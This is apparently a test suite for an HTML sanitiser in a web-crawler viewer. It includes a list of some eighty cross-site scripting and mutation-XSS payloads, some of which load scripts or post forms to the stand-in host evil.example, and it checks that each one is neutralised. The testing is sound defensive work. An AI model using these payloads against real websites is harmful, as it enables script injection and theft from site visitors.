import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse, type DefaultTreeAdapterTypes } from 'parse5';
import { MAX_PARSER_DEPTH } from '../../../../crawler/parse/bounded-parse.ts';
import { sanitizeStoredHtml, type LinkTarget } from '../../../../crawler/viewer/sanitize-html.ts';

/*
 * The sanitiser's output is checked the way a browser reads it: parse5 implements the
 * WHATWG parsing algorithm (foreign content, raw text, noscript with and without
 * scripting), so a namespace or raw-text confusion between htmlparser2 and a browser
 * shows up here as a forbidden element or attribute.
 */

const PAGE_URL = 'https://example.org/docs/page.html';
const INTERNAL_HOST = 'example.org';

function linkFor(absoluteUrl: string): LinkTarget {
  const url = new URL(absoluteUrl);
  if (url.hostname === INTERNAL_HOST) return { kind: 'internal', href: `/stored/test/${encodeURIComponent(url.pathname)}${url.hash}` };
  return { kind: 'external', href: `/stored/external?url=${encodeURIComponent(absoluteUrl)}` };
}

function sanitize(html: string, pageUrl = PAGE_URL, links: (url: string) => LinkTarget = linkFor): string {
  return sanitizeStoredHtml(html, { pageUrl, linkFor: links });
}

type Element = DefaultTreeAdapterTypes.Element;
type ParentNode = DefaultTreeAdapterTypes.ParentNode;

interface SeenElement {
  tag: string;
  ns: string;
  attrs: Map<string, string>;
  text: string;
}

function isElement(node: DefaultTreeAdapterTypes.Node): node is Element {
  return 'tagName' in node;
}

function textOf(node: ParentNode): string {
  let text = '';
  for (const child of node.childNodes) {
    if (child.nodeName === '#text') text += (child as DefaultTreeAdapterTypes.TextNode).value;
    else if ('childNodes' in child) text += textOf(child);
  }
  return text;
}

/** Every element a browser would build from `html`, in document order. */
function browserView(html: string, scriptingEnabled: boolean): SeenElement[] {
  const seen: SeenElement[] = [];
  const walk = (node: ParentNode): void => {
    for (const child of node.childNodes) {
      if (!isElement(child)) continue;
      seen.push({ tag: child.tagName, ns: child.namespaceURI, attrs: new Map(child.attrs.map((a) => [a.name, a.value])), text: textOf(child) });
      walk(child);
      if (child.tagName === 'template') walk((child as DefaultTreeAdapterTypes.Template).content);
    }
  };
  walk(parse(html, { scriptingEnabled }));
  return seen;
}

const FORBIDDEN_TAGS = new Set(['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'portal', 'fencedframe',
  'base', 'link', 'template', 'video', 'audio', 'source', 'track', 'param', 'use', 'image', 'feimage', 'foreignobject',
  'animate', 'animatemotion', 'animatetransform', 'set', 'annotation-xml', 'mglyph', 'maction', 'isindex', 'keygen', 'noscript']);
const FORBIDDEN_ATTRIBUTES = new Set(['srcset', 'action', 'formaction', 'target', 'ping', 'background', 'poster', 'xlink:href',
  'data', 'srcdoc', 'http-equiv', 'lowsrc', 'dynsrc', 'codebase', 'archive', 'manifest', 'content', 'attributename', 'values', 'to']);
const RESOURCE_CSS = /url\(|src\(|image\(|image-set\(|@import|expression\(|binding|behavior/;
const SAFE_HREF = /^(?:\/stored\/(?:test\/|external\?url=)|#)/;
const DATA_RASTER = /^data:image\/(?:png|gif|jpeg|webp)[;,]/;

function foldCss(css: string): string {
  return css
    .replace(/\\([0-9a-f]{1,6})\s?/gi, (_m, hex: string) => String.fromCodePoint(Math.min(Number.parseInt(hex, 16), 0x10ffff) || 0xfffd))
    .replace(/\\(.)/g, '$1')
    .replace(/\/\*[\s\S]*?\*\/|\s+/g, '')
    .toLowerCase();
}

/** What makes `html` unsafe to show, as a browser would parse it; empty when nothing does. */
function violations(html: string): string[] {
  const problems: string[] = [];
  for (const scripting of [false, true]) {
    const elements = browserView(html, scripting);
    elements.forEach((el, index) => {
      const where = `<${el.tag}> (scripting ${scripting})`;
      if (FORBIDDEN_TAGS.has(el.tag.toLowerCase())) problems.push(`forbidden element ${where}`);
      if (el.tag === 'meta' && !(index <= 3 && el.attrs.size === 1 && el.attrs.get('charset') === 'utf-8')) problems.push(`meta other than the charset ${where}`);
      if (el.tag === 'style' && RESOURCE_CSS.test(foldCss(el.text))) problems.push(`style sheet naming a resource ${where}: ${el.text}`);
      for (const [name, value] of el.attrs) {
        const folded = value.replace(/[\s\u0000-\u001f]+/g, '').toLowerCase();
        if (name.startsWith('on')) problems.push(`event handler ${name} on ${where}`);
        if (FORBIDDEN_ATTRIBUTES.has(name)) problems.push(`attribute ${name} on ${where}`);
        if (/javascript:|vbscript:/.test(folded)) problems.push(`script URL in ${name} on ${where}`);
        if (name === 'style' && RESOURCE_CSS.test(foldCss(value))) problems.push(`style attribute naming a resource on ${where}: ${value}`);
        if (name === 'href' && !(el.tag === 'a' && el.ns === 'http://www.w3.org/1999/xhtml' && SAFE_HREF.test(value))) problems.push(`href ${value} on ${where}`);
        if (name === 'src' && !(el.tag === 'img' && DATA_RASTER.test(value))) problems.push(`src ${value.slice(0, 60)} on ${where}`);
        if (el.ns !== 'http://www.w3.org/1999/xhtml' && /url\(/.test(folded) && !/^url\(#[\w-]+\)$/.test(folded)) problems.push(`remote paint ${name} on ${where}`);
      }
    });
  }
  return problems;
}

/** Markup to neutralise: each entry is [what it tries, the page]. */
const HOSTILE: [string, string][] = [
  ['svg onload', '<svg onload=alert(1)><circle r=5 /></svg>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img with slashes for spaces', '<img/src="x"/onerror=alert(1)>'],
  ['div with slash attribute', "<div/onmouseover='alert(1)'>hover</div>"],
  ['mixed-case javascript: href', '<a href="jAvAsCrIpT:alert(1)">x</a>'],
  ['entity-encoded javascript: href', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['hex entities and a tab in javascript:', '<a href="&#x6A;ava&#x09;script&colon;alert(1)">x</a>'],
  ['javascript: after spaces and controls', '<a href=" \u0001 javascript:alert(1)">x</a>'],
  ['vbscript: href', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: text/html href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['math mglyph style mXSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['math annotation-xml integration point', '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>'],
  ['math href', '<math href="javascript:alert(1)"><mi xlink:href="javascript:alert(2)">x</mi></math>'],
  ['math style breakout', '<math><style><img src=x onerror=alert(1)></style></math>'],
  ['svg style breakout', '<svg><style><img src=x onerror=alert(1)></style></svg>'],
  ['svg p breakout', '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>'],
  ['unclosed script', '<p>before</p><script>alert(1)'],
  ['unterminated script tag', '<p>before</p><script'],
  ['script split by script', '<scr<script>ipt>alert(1)</script>'],
  ['nested angle script', '<<script>alert(1)//<</script>'],
  ['uppercase script src', '<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>'],
  ['script with slash attribute', '<script/xss src=http://evil.example/x.js></script>'],
  ['style @import url', '<style>@import url(http://evil.example/x.css); p { color: red }</style>'],
  ['style @import string', "<style>@import 'http://evil.example/x.css';</style>"],
  ['style url in rule', '<style>body { background: url(http://evil.example/x.png) }</style>'],
  ['style escaped url', '<style>body { background: u\\72l(http://evil.example/x.png) }</style>'],
  ['style url hidden by comment', '<style>body { background: u/**/rl(http://evil.example/x.png) }</style>'],
  ['style font-face', '<style>@font-face { font-family: x; src: url(http://evil.example/f.woff) }</style>'],
  ['style ending inside a string', '<style>p { content: "</style><img src=x onerror=alert(1)>" }</style>'],
  ['style attribute url', '<p style="background:url(http://evil.example/x.png)">x</p>'],
  ['style attribute escaped url', '<p style="background:\\75 rl(http://evil.example/x.png)">x</p>'],
  ['style attribute image-set', "<p style=\"background-image:image-set('http://evil.example/x.png' 1x)\">x</p>"],
  ['style attribute expression', '<p style="width:expression(alert(1))">x</p>'],
  ['style attribute moz-binding', '<p style="-moz-binding:url(http://evil.example/x.xml#x)">x</p>'],
  ['srcset', '<img srcset="http://evil.example/a.png 1x" alt="a">'],
  ['picture source', '<picture><source srcset="http://evil.example/x.webp"><img src="http://evil.example/x.png" alt="pic"></picture>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=http://evil.example/">'],
  ['meta csp and cookie', '<meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv="set-cookie" content="a=b">'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['iframe javascript:', '<iframe src="javascript:alert(1)"></iframe>'],
  ['object data', '<object data="http://evil.example/x.swf"><param name=x value=y>fallback</object>'],
  ['embed', '<embed src="http://evil.example/x.swf">'],
  ['applet', '<applet code="X.class" codebase="http://evil.example/">applet</applet>'],
  ['portal', '<portal src="http://evil.example/"></portal>'],
  ['form action', '<form action="http://evil.example/steal" method=post><input name=p></form>'],
  ['button formaction', '<form><button formaction="javascript:alert(1)">go</button><input type=submit formaction="http://evil.example/"></form>'],
  ['input image', '<input type=image src="http://evil.example/x.png" alt="Send">'],
  ['isindex', '<isindex action="javascript:alert(1)" type=image>'],
  ['base href', '<base href="http://evil.example/"><a href="x">x</a>'],
  ['base javascript:', '<base href="javascript:alert(1)//"><a href="x">x</a>'],
  ['link dns-prefetch', '<link rel=dns-prefetch href="//evil.example">'],
  ['link preconnect, prefetch, preload', '<link rel=preconnect href="https://evil.example"><link rel=prefetch href="/x"><link rel=preload href="/y" as=script>'],
  ['link stylesheet, icon, manifest', '<link rel=stylesheet href="http://evil.example/x.css"><link rel=icon href="/f.ico"><link rel=manifest href="/m.json">'],
  ['video and audio', '<video poster="http://evil.example/p.png" src="http://evil.example/v.mp4"><track src="/t.vtt">v</video><audio src="http://evil.example/a.mp3"></audio>'],
  ['background attributes', '<body background="http://evil.example/b.png"><table background="http://evil.example/t.png"><tr><td background="/c.png">c</td></tr></table></body>'],
  ['ping and target', '<a href="https://example.org/x" ping="http://evil.example/ping" target="_blank">x</a>'],
  ['svg use', '<svg><use href="http://evil.example/sprite.svg#x"/></svg>'],
  ['svg image', '<svg><image href="http://evil.example/x.png"/></svg>'],
  ['svg a javascript:', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['svg animate href', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>'],
  ['svg set handler', '<svg><set attributeName=onmouseover to=alert(1) /></svg>'],
  ['svg foreignObject', '<svg><foreignObject><iframe src="http://evil.example/"></iframe><img src=x onerror=alert(1)></foreignObject></svg>'],
  ['svg remote paint', '<svg><rect fill="url(http://evil.example/p.svg#p)" stroke="url(#local)" /></svg>'],
  ['svg script', '<svg><script>alert(1)</script><script href="http://evil.example/x.js"/></svg>'],
  ['svg filter feImage', '<svg><filter id=f><feImage href="http://evil.example/x.png"/></filter></svg>'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>'],
  ['xmp', '<xmp><script>alert(1)</script></xmp>'],
  ['textarea', '<textarea><script>alert(1)</script></textarea>'],
  ['title', '<title><script>alert(1)</script></title>'],
  ['noembed and noframes', '<noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(1)></noframes>'],
  ['comments', '<!--<img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]-->'],
  ['cdata in svg', '<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>'],
  ['frameset', '<frameset><frame src="javascript:alert(1)"><frame src="http://evil.example/"></frameset>'],
  ['details ontoggle and marquee', '<details open ontoggle=alert(1)><summary>s</summary></details><marquee onstart=alert(1)>m</marquee>'],
  ['attribute breaking out of quotes', '<img src=x alt="x&quot; onerror=&quot;alert(1)"><p title="a&quot; onclick=&quot;alert(1)">t</p>'],
  ['data: svg image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="svg">'],
  ['template content', '<template><img src=x onerror=alert(1)><script>alert(1)</script></template>'],
  ['dialog and select', '<dialog open onclose=alert(1)>d</dialog><select onchange=alert(1)><option>o</option></select>'],
  ['embedded NUL in tag name', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'],
];

describe('sanitizeStoredHtml: hostile markup', () => {
  for (const [what, html] of HOSTILE) {
    it(`neutralises ${what}`, () => {
      const out = sanitize(html);
      assert.deepEqual(violations(out), [], out);
      assert.doesNotMatch(out, /<script|<base|http-equiv|rel="?(?:dns-prefetch|preconnect|prefetch)|evil\.example\/[^"]*"\s*(?:src|srcset)/i);
    });
  }

  it('finds the violations it is meant to find (the checker is not blind)', () => {
    assert.notDeepEqual(violations('<img src=x onerror=alert(1)>'), []);
    assert.notDeepEqual(violations('<svg><image href="http://evil.example/x.png"/></svg>'), []);
    assert.notDeepEqual(violations('<p style="background:u\\72l(http://evil.example/)">x</p>'), []);
    assert.notDeepEqual(violations('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'), []);
    assert.notDeepEqual(violations('<a href="https://evil.example/">x</a>'), []);
  });

  it('sends a link behind <base> to the base, and keeps no <base>', () => {
    const seen: string[] = [];
    const out = sanitize('<base href="http://evil.example/dir/"><a href="x">x</a>', PAGE_URL, (url) => {
      seen.push(url);
      return linkFor(url);
    });
    assert.deepEqual(seen, ['http://evil.example/dir/x']);
    assert.match(out, /class="forager-external"/);
  });

  it('ignores a javascript: base and resolves against the page', () => {
    const seen: string[] = [];
    sanitize('<base href="javascript:alert(1)//"><a href="x">x</a>', PAGE_URL, (url) => {
      seen.push(url);
      return linkFor(url);
    });
    assert.deepEqual(seen, ['https://example.org/docs/x']);
  });

  it('turns frames into links and drops their content', () => {
    const out = sanitize('<iframe src="/docs/framed.html#top">fallback text</iframe><iframe src="javascript:alert(1)"></iframe>');
    assert.equal(
      out.slice(out.indexOf('<span')),
      '<span class="forager-frame">Embedded page: <a href="/stored/test/%2Fdocs%2Fframed.html#top">https://example.org/docs/framed.html#top</a></span>',
    );
  });
});

describe('sanitizeStoredHtml: what a reader keeps', () => {
  const article = `<!DOCTYPE html><html lang="en"><head><meta charset="windows-1252"><title>WAL &amp; checkpoints</title>
<style>body { color: #222 } @media (max-width: 600px) { pre { font-size: 80% } }</style></head>
<body><h1 id="top" class="title" style="color: navy; background: url(/bg.png)">Write-ahead logging</h1>
<p>Text with <em>emphasis</em>, <code>PRAGMA wal_checkpoint</code> and 3 &lt; 4.</p>
<ul><li>one<li>two</ul><ol start="3"><li>three</li></ol>
<table border="1"><caption>Modes</caption><tr><th scope="col">mode</th></tr><tr><td colspan="2">WAL</td></tr></table>
<pre>  indented
    code</pre>
<p><a href="/docs/other.html#section-2" target="_top" rel="next">internal</a>
<a href="https://other.example/page?q=1&amp;r=2" class="cite" title="theirs">external</a>
<a href="#top">back to top</a> <a href="mailto:someone@example.org">mail</a>
<img src="/logo.png" alt="The logo" width="10"> <img src="data:image/png;base64,iVBORw0KGgo=" alt="dot" onload="x()">
<noscript><p>Shown without script</p></noscript></p>
<svg viewBox="0 0 10 10" width="10"><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient><rect width="10" height="10" fill="url(#g)"/></svg>
<math><mfrac><mi>a</mi><mn>2</mn></mfrac></math>
</body></html>`;
  const seen: string[] = [];
  const out = sanitize(article, PAGE_URL, (url) => {
    seen.push(url);
    return linkFor(url);
  });

  it('starts with a doctype and a UTF-8 charset, and drops the page\'s own charset', () => {
    assert.ok(out.startsWith('<!DOCTYPE html>\n<meta charset="utf-8">\n'));
    assert.equal(out.match(/<meta/g)?.length, 1);
  });

  it('keeps headings, text, lists, tables, code and safe styles', () => {
    assert.match(out, /<title>WAL &amp; checkpoints<\/title>/);
    assert.match(out, /<h1 id="top" class="title" style="color: navy;">Write-ahead logging<\/h1>/);
    assert.match(out, /<p>Text with <em>emphasis<\/em>, <code>PRAGMA wal_checkpoint<\/code> and 3 &lt; 4\.<\/p>/);
    assert.match(out, /<ul><li>one<\/li><li>two<\/li><\/ul><ol start="3"><li>three<\/li><\/ol>/);
    assert.match(out, /<table border="1"><caption>Modes<\/caption><tr><th scope="col">mode<\/th><\/tr><tr><td colspan="2">WAL<\/td><\/tr><\/table>/);
    assert.match(out, /<pre> {2}indented\n {4}code<\/pre>/);
    assert.match(out, /<style>body\{color: #222;\}@media \(max-width: 600px\)\{pre\{font-size: 80%;\}\}<\/style>/);
  });

  it('rewrites links: internal keeps its fragment, external is marked, same-page fragments stay', () => {
    assert.deepEqual(seen, ['https://example.org/docs/other.html#section-2', 'https://other.example/page?q=1&r=2']);
    assert.match(out, /<a href="\/stored\/test\/%2Fdocs%2Fother\.html#section-2">internal<\/a>/);
    assert.match(out, new RegExp(
      '<a href="/stored/external\\?url=https%3A%2F%2Fother\\.example%2Fpage%3Fq%3D1%26r%3D2" rel="noopener noreferrer" ' +
      'class="cite forager-external" title="Leaves the collection: https://other\\.example/page\\?q=1&amp;r=2">external</a>'));
    assert.match(out, /<a href="#top">back to top<\/a>/);
    assert.match(out, /<a>mail<\/a>/);
    assert.doesNotMatch(out, /target=|rel="next"/);
  });

  it('shows a remote image as its alt text and keeps a data: raster image', () => {
    assert.match(out, /<span class="forager-image">The logo<\/span>/);
    assert.match(out, /<img alt="dot" src="data:image\/png;base64,iVBORw0KGgo=">/);
  });

  it('unwraps noscript and keeps simple SVG and MathML', () => {
    assert.match(out, /<p>Shown without script<\/p>/);
    assert.doesNotMatch(out, /noscript/);
    assert.match(out, /<svg viewbox="0 0 10 10" width="10"><linearGradient id="g"><stop offset="0" stop-color="red"><\/stop><\/linearGradient><rect width="10" height="10" fill="url\(#g\)"><\/rect><\/svg>/);
    assert.match(out, /<math><mfrac><mi>a<\/mi><mn>2<\/mn><\/mfrac><\/math>/);
    assert.deepEqual(violations(out), []);
  });

  it('escapes text and attribute values', () => {
    const escaped = sanitize('<p title="&quot;&lt;&amp;">a &lt;b&gt; &amp;amp; "q"</p>');
    assert.match(escaped, /<p title="&quot;&lt;&amp;">a &lt;b&gt; &amp;amp; "q"<\/p>/);
  });
});

describe('sanitizeStoredHtml: malformed and huge input', () => {
  it('survives garbage, unclosed tags and stray end tags', () => {
    const inputs = [
      '', '<', '<<<<>>>>', '</', '</p></div></table>', '<div><span><table><tr><td>cell', '<a href="', '<a href="x', '<!--',
      '<!DOCTYPE', '<![CDATA[', '<p <p <p>', '<style>p{', '<style>}}}{{{', '<svg><path d="', '<math><mi>', '&#xFFFFFFF;&#0;&',
      '\u0000\ufffd\ud800', '<table><td>a<tr>b<caption>c</table>d',
    ];
    for (const html of inputs) {
      const out = sanitize(html);
      assert.ok(out.startsWith('<!DOCTYPE html>'), html);
      assert.deepEqual(violations(out), [], html);
    }
  });

  it('survives a huge attribute, many attributes and a huge style sheet', () => {
    const bigAttribute = `<p title="${'x'.repeat(5_000_000)}">t</p>`;
    assert.equal(sanitize(bigAttribute), `<!DOCTYPE html>\n<meta charset="utf-8">\n${bigAttribute}`);
    const manyAttributes = `<p ${Array.from({ length: 50_000 }, (_, i) => `a${i}="${i}"`).join(' ')} onclick="x">t</p>`;
    assert.match(sanitize(manyAttributes), /<p>t<\/p>/);
    const bigSheet = `<style>${'p{color:red;background:url(http://evil.example/)}'.repeat(100_000)}</style>`;
    const out = sanitize(bigSheet);
    assert.equal(out.split('p{color:red;}').length - 1, 100_000);
    assert.deepEqual(violations(out), []);
  });

  it('handles deep nesting in linear time, starting fresh parsers past the depth limit', { timeout: 30_000 }, () => {
    const depth = 200_000;
    const nested = `${'<div>'.repeat(depth)}deep${'</div>'.repeat(depth)}<p>after</p>`;
    const started = performance.now();
    const out = sanitize(nested);
    const ms = performance.now() - started;
    assert.match(out, /deep/);
    assert.match(out, /<p>after<\/p>/);
    assert.equal(out.split('<div>').length - 1, depth);
    assert.equal(out.split('</div>').length - 1, depth);
    // htmlparser2 alone takes ~20 s for this; a linear pass takes well under that.
    assert.ok(ms < 10_000, `${depth} nested divs took ${ms.toFixed(0)} ms`);
    const unclosed = `${'<font>'.repeat(MAX_PARSER_DEPTH * 3)}<script>alert(1)</script>text`;
    const soup = sanitize(unclosed);
    assert.match(soup, /text/);
    assert.deepEqual(violations(soup), []);
  });

  it('past the depth limit inside a dropped element, shows the rest of the page, still sanitised', () => {
    const html = `<template>${'<div>'.repeat(MAX_PARSER_DEPTH + 10)}inside<img src=x onerror=alert(1)><script>alert(1)</script></template><p>after</p>`;
    const out = sanitize(html);
    assert.match(out, /inside/);
    assert.match(out, /<p>after<\/p>/);
    // The template and MAX_PARSER_DEPTH - 1 divs fill the first parser; the other divs open in the next.
    assert.equal(out.split('<div>').length - 1, MAX_PARSER_DEPTH + 10 - (MAX_PARSER_DEPTH - 1));
    assert.deepEqual(violations(out), []);
  });

  it('sanitises a 10 MB page', { timeout: 60_000 }, () => {
    const chunk = '<div class="c"><p>Paragraph <a href="/docs/x.html">link</a> <img src="/i.png" alt="i" onerror="x()"> and <b>bold</b></p></div>\n';
    const html = chunk.repeat(Math.ceil(10_000_000 / chunk.length));
    const out = sanitize(html);
    assert.equal(out.split('<span class="forager-image">i</span>').length - 1, Math.ceil(10_000_000 / chunk.length));
    assert.doesNotMatch(out.slice(0, 100_000), /onerror|src=/);
  });

  it('sanitises a realistic 2 MB page (the time is reported, not asserted)', (t) => {
    const section = (i: number): string =>
      `<section id="s${i}"><h2>Section ${i}</h2><p style="margin:0 0 1em">Write-ahead logging keeps a log of changes ` +
      `<a href="/docs/p${i % 50}.html#f">internal ${i}</a>, <a href="https://other.example/${i}">external ${i}</a>, ` +
      `<code>PRAGMA journal_mode=WAL</code>.</p><ul><li>one</li><li>two</li></ul>` +
      `<table><tr><td>${i}</td><td>cell</td></tr></table><img src="/img/${i}.png" alt="figure ${i}"><script>track(${i})</script></section>\n`;
    const parts: string[] = ['<!DOCTYPE html><html><head><title>Big</title><style>p{color:#333}</style></head><body>'];
    let size = 0;
    for (let i = 0; size < 2_000_000; i++) {
      const s = section(i);
      parts.push(s);
      size += s.length;
    }
    const html = `${parts.join('')}</body></html>`;
    sanitize(html); // warm-up
    const started = performance.now();
    const out = sanitize(html);
    const ms = performance.now() - started;
    t.diagnostic(`sanitising ${(html.length / 1e6).toFixed(2)} MB took ${ms.toFixed(0)} ms`);
    assert.doesNotMatch(out, /<script|track\(/);
    assert.match(out, /<a href="\/stored\/test\/%2Fdocs%2Fp7\.html#f">internal 7<\/a>/);
  });
});
